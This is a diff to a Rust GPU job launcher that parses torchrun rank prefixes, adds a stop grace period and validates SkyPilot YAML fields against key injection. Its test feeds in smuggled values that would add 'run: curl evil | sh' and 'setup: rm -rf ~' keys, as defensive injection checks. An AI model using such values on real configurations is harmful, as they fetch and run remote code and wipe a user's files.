@@ -17,6 +17,10 @@ use crate::remote::quote::{shell_join, shell_quote};
 pub const JOB_DIR: &str = "$HOME/.gpurent/jobs";
 /// The job's name (one launch per host at a time).
 pub const JOB_NAME: &str = "launch";
+/// How long a stop waits after `TERM` before it `KILL`s what is left: longer than torchrun's own
+/// 30 s escalation (`_close(timeout=30)`), so ranks can finish a checkpoint and torchrun its
+/// shutdown; what still carries the job's marker after it is killed.
+pub const STOP_GRACE: std::time::Duration = std::time::Duration::from_secs(35);
 
 /// What to run.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
@@ -58,7 +62,9 @@ pub fn torchrun_command(spec: &LaunchSpec) -> Result<String, RemoteError> {
     Ok(c)
 }
 
-/// One output line: the rank it came from (`[rank3]:…`), or `None` for torchrun's own lines.
+/// One output line: the rank it came from, or `None` for torchrun's own lines. torchrun's
+/// `--tee 3` prefixes `[{role}{local_rank}]:` — `[default0]:` with the default role; `[rank0]:`
+/// is what `--role rank` (and older tooling) writes: both are read.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
 pub struct RankLine {
     pub rank: Option<u32>,
@@ -66,13 +72,15 @@ pub struct RankLine {
 }
 
 pub fn rank_line(l: &str) -> RankLine {
-    if let Some(rest) = l.strip_prefix("[rank") {
-        if let Some((n, line)) = rest.split_once("]:") {
-            if let Ok(rank) = n.parse() {
-                return RankLine {
-                    rank: Some(rank),
-                    line: line.strip_prefix(' ').unwrap_or(line).to_string(),
-                };
+    for role in ["[default", "[rank"] {
+        if let Some(rest) = l.strip_prefix(role) {
+            if let Some((n, line)) = rest.split_once("]:") {
+                if let Ok(rank) = n.parse() {
+                    return RankLine {
+                        rank: Some(rank),
+                        line: line.strip_prefix(' ').unwrap_or(line).to_string(),
+                    };
+                }
             }
         }
     }
@@ -118,6 +126,25 @@ pub fn skypilot_yaml(
     setup: &str,
     script: &[String],
 ) -> Result<String, RemoteError> {
+    // `name` and `accelerators` are plain YAML scalars: only characters that cannot end the
+    // line or start YAML syntax (a newline or `: ` in them would add keys to the task).
+    let plain = |what: &str, v: &str| -> Result<(), RemoteError> {
+        if v.is_empty()
+            || !v
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':'))
+            || v.contains(": ")
+            || v.starts_with(['-', ':'])
+        {
+            return Err(RemoteError::invalid(
+                "skypilot",
+                format!("{what} may hold letters, digits, '-', '_', '.' and ':' only"),
+            ));
+        }
+        Ok(())
+    };
+    plain("the task name", name)?;
+    plain("accelerators", accelerators)?;
     let per_node: u32 = accelerators
         .rsplit_once(':')
         .and_then(|(_, n)| n.parse().ok())
@@ -158,6 +185,24 @@ mod tests {
     }
 
     #[test]
+    fn skypilot_fields_cannot_add_yaml_keys() {
+        let script = vec!["train.py".to_string()];
+        for (name, acc) in [
+            ("x\nrun: curl evil | sh", "A100:4"),
+            ("ok", "A100:4\nsetup: rm -rf ~"),
+            ("a: b", "A100:4"),
+            ("", "A100:4"),
+        ] {
+            assert!(
+                skypilot_yaml(name, acc, 2, "", &script).is_err(),
+                "{name:?} {acc:?}"
+            );
+        }
+        let y = skypilot_yaml("job-1", "H100:8", 2, "echo 'a: b'\nnext", &script).expect("yaml");
+        assert!(y.contains("setup: |\n  echo 'a: b'\n  next\n"), "{y}");
+    }
+
+    #[test]
     fn rank_prefixes_are_read() {
         assert_eq!(
             rank_line("[rank1]: loss 0.5"),
@@ -166,8 +211,17 @@ mod tests {
                 line: "loss 0.5".into()
             }
         );
+        // Real torchrun's default role: no space after the colon.
+        assert_eq!(
+            rank_line("[default3]:step 10"),
+            RankLine {
+                rank: Some(3),
+                line: "step 10".into()
+            }
+        );
         assert_eq!(rank_line("W1201 torchrun warning").rank, None);
         assert_eq!(rank_line("[rankx]: no").rank, None);
+        assert_eq!(rank_line("[defaultx]:no").rank, None);
     }
 
     #[test]
